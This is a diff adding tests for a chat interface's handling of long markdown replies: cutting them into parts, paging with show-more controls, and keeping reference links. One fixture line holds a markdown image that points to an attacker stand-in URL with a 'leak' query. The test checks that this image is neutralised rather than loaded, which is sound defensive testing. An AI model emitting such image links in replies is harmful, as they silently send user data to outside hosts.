@@ -16,7 +16,9 @@ from nicegui.testing import User
 from nicegui.testing.user_interaction import UserInteraction
 
 from components.chat import ChatView
+from components.chat.cuts import link_definitions, parts
 from components.chat.live_html import LiveHtml
+from components.chat.long_reply import FIRST_CHARS
 from components.chat.streaming import stable_prefix
 from components.chat.view import INITIAL_EVENTS, PAGE_EVENTS
 from core import events as ev
@@ -585,6 +587,72 @@ def test_stable_prefix(text: str, expected: int) -> None:
     assert stable_prefix(text) == expected
     if expected:
         assert text[expected - 2:expected] == "\n\n"
+
+
+@pytest.mark.parametrize("text", [
+    "Intro.\n\n<details>\n<summary>More</summary>\n\nHidden.\n\n</details>\n\nAfter.\n",
+    "Intro.\n\n<!-- a comment\n\nstill the comment -->\n\nAfter.\n",
+])
+def test_no_cut_inside_raw_html(text: str) -> None:
+    assert parts(text, 1) == ["Intro.\n\n", text[len("Intro.\n\n"):text.index("After.")], "After.\n"]
+
+
+def test_a_long_text_is_cut_into_parts_that_join_to_it() -> None:
+    text = "".join(f"## Section {n}\n\nSee [the docs][d] and:\n\n```python\nx = {n}\n\ny = {n}\n```\n\n"
+                   f"1. one\n\n2. two\n\n" for n in range(50)) + "[d]: https://docs.example\n"
+    pieces = parts(text, 200)
+    assert "".join(pieces) == text
+    assert 10 < len(pieces) < 50 and all(len(piece) >= 200 for piece in pieces[:-1])
+    assert all(piece.count("```") % 2 == 0 for piece in pieces), "never inside a code block"
+    assert not any(piece.startswith("2. ") for piece in pieces), "never inside a loose list"
+    assert link_definitions(text) == "[d]: https://docs.example\n"
+
+
+def huge_reply(lines: int) -> str:
+    out = ["# The whole review", "", "![diagram](https://attacker.example/leak?d=x)", ""]
+    while len(out) < lines:
+        n = len(out)
+        out += [f"## Part {n}", ""] if n % 20 == 0 else \
+            [f"Line {n}: the handler reads the request and answers; **nothing** to change in `module_{n}`."]
+    return "\n".join(out[:lines - 2] + ["", "The end of the review."])
+
+
+async def test_a_huge_reply_opens_at_its_beginning_and_shows_the_rest_on_demand(
+        user: User, make_job, open_view):
+    """Spec D6: a 5,000-line reply opens with its first screens and a way to the rest; nothing is lost."""
+    reply = huge_reply(5000)
+    job = make_job([user_msg("review it all"), text(reply), turn_end()])
+    await open_view(job.id)
+
+    shown = await see(user, "assistant-text", "The whole review")
+    await see(user, "turn-footer", "Turn done")
+    parts_shown = [e for e in shown.descendants() if isinstance(e, ui.markdown)]
+    first = "".join(e.content for e in parts_shown)
+    assert reply.startswith(first) and FIRST_CHARS <= len(first) < len(reply) // 10
+    assert "ccs-remote-image" in parts_shown[0].props["innerHTML"] and "<img" not in parts_shown[0].props["innerHTML"]
+    await user.should_not_see("The end of the review.")
+    lines_shown = first.count("\n")
+    await see(user, "reply-rest", f"Lines 1–{lines_shown:,} of 5,000")
+
+    user.find(marker="show-more").click()
+    await see(user, "reply-rest", "of 5,000")
+    more = "".join(e.content for e in shown.descendants() if isinstance(e, ui.markdown))
+    assert reply.startswith(more) and len(more) > len(first)
+
+    user.find(marker="show-all").click()
+    await see(user, "assistant-text", "The end of the review.")
+    await user.should_not_see(marker="reply-rest")
+    assert "".join(e.content for e in shown.descendants() if isinstance(e, ui.markdown)) == reply
+
+
+async def test_a_reply_in_parts_keeps_its_reference_links(user: User, make_job, open_view) -> None:
+    reply = "".join(f"See [the docs][d], section {n}.\n\n" for n in range(4000)) + "[d]: https://docs.example\n"
+    job = make_job([user_msg("links?"), text(reply)])
+    await open_view(job.id)
+    await see(user, "reply-rest")  # shown in parts: the definition is in the last one
+    first = next(e for e in (await see(user, "assistant-text")).descendants() if isinstance(e, ui.markdown))
+    assert '<a href="https://docs.example">the docs</a>' in first.props["innerHTML"]
+    assert "[d]" not in first.props["innerHTML"]
 
 
 async def test_a_reply_cut_short_says_so(user: User, make_job, open_view):
